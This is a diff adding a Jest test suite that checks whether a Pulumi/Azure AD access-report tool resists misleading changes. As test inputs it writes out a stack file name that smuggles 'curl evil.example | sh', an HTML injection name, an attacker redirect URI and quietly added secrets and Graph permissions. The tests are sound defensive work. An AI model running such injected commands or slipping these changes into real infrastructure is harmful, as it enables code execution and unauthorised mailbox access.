@@ -1,0 +1,163 @@
+import { execFileSync } from "node:child_process";
+import { rename } from "node:fs/promises";
+import { join } from "node:path";
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from "@jest/globals";
+
+import { copyProject, type ProjectCopy } from "../../projectCopy.ts";
+
+/** What somebody proposes may be made to mislead whoever reviews it. */
+let project: ProjectCopy;
+
+const PROD = "stacks/Pulumi.prod.yaml";
+const SETTINGS = "config:\n  aem-mail-oauth:permissions: [offline_access, SMTP.Send]\n";
+
+beforeAll(async () => {
+  project = await copyProject();
+  await project.write(PROD, SETTINGS);
+  await project.run("access");
+  git("init", "--quiet", "--initial-branch=main");
+  commit("as it was");
+  git("tag", "start");
+});
+
+afterAll(() => project.close());
+
+beforeEach(() => {
+  git("checkout", "--quiet", "--force", "-B", "main", "start");
+  git("clean", "--quiet", "--force", "-d", "--exclude=node_modules");
+});
+
+function git(...args: string[]): string {
+  const identity = ["-c", "user.name=Somebody", "-c", "user.email=somebody@example.com"];
+  return execFileSync("git", ["-C", project.root, ...identity, ...args], { encoding: "utf8" }).trim();
+}
+
+function commit(message: string): void {
+  git("add", "--all", "--", ".", ":!node_modules");
+  git("commit", "--quiet", "--message", message);
+}
+
+async function diff(...args: string[]): Promise<string> {
+  const { code, stdout, stderr } = await project.run("access", "--diff", ...args);
+  expect({ code, stderr }).toEqual({ code: 0, stderr: "" });
+  return stdout;
+}
+
+async function edit(path: string, from: string, to: string): Promise<void> {
+  const text = await project.read(path);
+  expect(text).toContain(from);
+  await project.write(path, text.replace(from, to));
+}
+
+describe("access, of a change that is not to be trusted,", () => {
+  it("takes no file for a stack whose name Pulumi refuses: it would stand among commands to copy", async () => {
+    await project.write("stacks/Pulumi.a; curl evil.example | sh #.yaml", SETTINGS);
+    await project.write("stacks/Pulumi.`@everyone` <img src=x>.yaml", SETTINGS);
+    await project.write("stacks/Pulumi.[ab]*.yaml", SETTINGS);
+    commit("names");
+    for (const range of ["start", "start..main"]) {
+      expect(await diff(range)).toContain("\nNo change in access: `dev`, `local`, `prod`, `staging`.\n");
+      expect(await diff(range)).not.toMatch(/evil|everyone|\[ab\]/);
+    }
+  });
+
+  it("tells what the settings declare where the access file keeps it quiet", async () => {
+    await project.write(PROD, SETTINGS.replace("SMTP.Send", "SMTP.Send, exchange/Mail.ReadWrite"));
+    await project.write(
+      "stacks/prod.consent.yaml",
+      'consents:\n  - { mailbox: "@a", user: b, at: "2030-01-01T00:00:00Z", scopes: [] }\n',
+    );
+    commit("without its access file");
+    const told = await diff("start..main");
+    expect(told).toContain("### Stack `prod`: no change in its access file\n");
+    expect(told).toContain(
+      "- **Declared, and not in the file**: wider: Permission gained: `exchange/Mail.ReadWrite` of `Office 365 Exchange Online`, " +
+        "which lets the application: `Read and write user mail`. The mailbox has to sign in and consent again",
+    );
+    // Nobody gives a consent by writing it into the change itself.
+    expect(told).not.toContain("@a");
+  });
+
+  it.each(["tenant: [", "tenant: not pinned\n"])(
+    "goes on without an access file that cannot be read, %j, and counts what nobody vouches for as growing",
+    async (garbled) => {
+      await project.write("stacks/prod.access.yaml", garbled);
+      commit("garbled");
+      const after = await project.run("access", "--diff", "start..main", "--fail-on", "widening");
+      expect(after).toMatchObject({ code: 4, stderr: "" });
+      expect(after.stdout).toContain("stacks/prod.access.yaml after the change cannot be read; its settings were read");
+      await project.run("access");
+      commit("mended");
+      const before = await diff("main~1..main");
+      expect(before).toContain("## Access: no change in access\n");
+      expect(before).toContain("stacks/prod.access.yaml before the change cannot be read; its settings were read");
+    },
+  );
+
+  it("shows what a changed program declares beside the application, under whichever name", async () => {
+    const from = "new azuread.ApplicationRedirectUris(";
+    await edit(
+      "components/mailApplication.ts",
+      from,
+      `new azuread.ApplicationPassword("mail-secret-quiet", { applicationId: registration.id });
+       new azuread.ApplicationApiAccess("mail-api-graph-too", { applicationId: registration.id,
+         apiClientId: API_IDS.graph, roleIds: ["810c84a8-4a9e-49e6-bf7d-12d183f40d01"], scopeIds: ["024d486e-b451-40bb-833d-3e66d98c5c73"] });
+       new azuread.ApplicationRedirectUris("mail-spa", { applicationId: registration.id, type: "SPA", redirectUris: ["https://evil.example/"] });
+       ${from}`,
+    );
+    await project.run("access");
+    const told = await diff("main", "--stack", "prod");
+    for (const words of [
+      "`components/mailApplication.ts`",
+      "- wider: Other resource added: `application permission 810c84a8-4a9e-49e6-bf7d-12d183f40d01 of API 00000003-0000-0000-c000-000000000000`.",
+      "- wider: Other resource added: `SPA redirect URI https://evil.example/`.",
+      "- wider: Other resource added: `azuread:index/applicationPassword:ApplicationPassword mail-secret-quiet`.",
+      "- wider: Other resource added: `azuread:index/applicationApiAccess:ApplicationApiAccess mail-api-graph-too`.",
+      "- wider: Permission gained: `Mail.ReadWrite` of `Microsoft Graph`",
+    ]) {
+      expect(told).toContain(words);
+    }
+    expect(told).not.toContain("Redirect URI added");
+  });
+
+  it("repeats no secret that somebody left open among the settings", async () => {
+    await project.write(PROD, `${SETTINGS}  azuread:clientSecret: topsecret\n`);
+    const { stdout, stderr } = await project.run("access", "--check");
+    expect(stderr).toContain("+  - azuread:clientSecret = (not encrypted)\n");
+    expect(await diff("main")).toContain("Setting added: `azuread:clientSecret = (not encrypted)`.");
+    expect(stdout + stderr + (await diff("main", "--format", "json"))).not.toContain("topsecret");
+  });
+
+  it("keeps every fact in a line, whatever a value holds", async () => {
+    await project.write(PROD, `${SETTINGS}  azuread:metadataHost: "a\\nowners: none\\n"\n`);
+    await project.run("access", "--stack", "organisation/project/prod");
+    expect(await project.read("stacks/prod.access.yaml")).toContain(
+      'other settings:\n  - "azuread:metadataHost = a\\nowners: none\\n"\nother resources: none\n',
+    );
+    expect(await project.run("access", "--check", "--stack", "organisation/project/prod")).toMatchObject({ code: 0 });
+  });
+
+  it("sees workflows at the top of a repository that holds more than this project", async () => {
+    const folder = join(project.root, "infra", "mail");
+    git("checkout", "--quiet", "-b", "moved");
+    for (const path of git("ls-files")
+      .split("\n")
+      .filter((name) => !name.startsWith(".github/"))) {
+      await project.write(join("infra", "mail", path), "");
+      await rename(join(project.root, path), join(folder, path));
+    }
+    await project.write(".github/workflows/access-report.yml", "on: push\n");
+    commit("moved");
+    await project.write(".github/workflows/access-report.yml", "on: pull_request\n");
+    await edit("infra/mail/components/notes.ts", "import", "// edited\nimport");
+    const told = execFileSync(
+      process.execPath,
+      [join(folder, "bin", "aem-mail-oauth.js"), "access", "--diff", "HEAD"],
+      {
+        encoding: "utf8",
+        env: { ...process.env, NODE_OPTIONS: "" },
+      },
+    );
+    expect(told).toContain("that code. `.github/workflows/access-report.yml`, `infra/mail/components/notes.ts`.\n");
+  });
+});
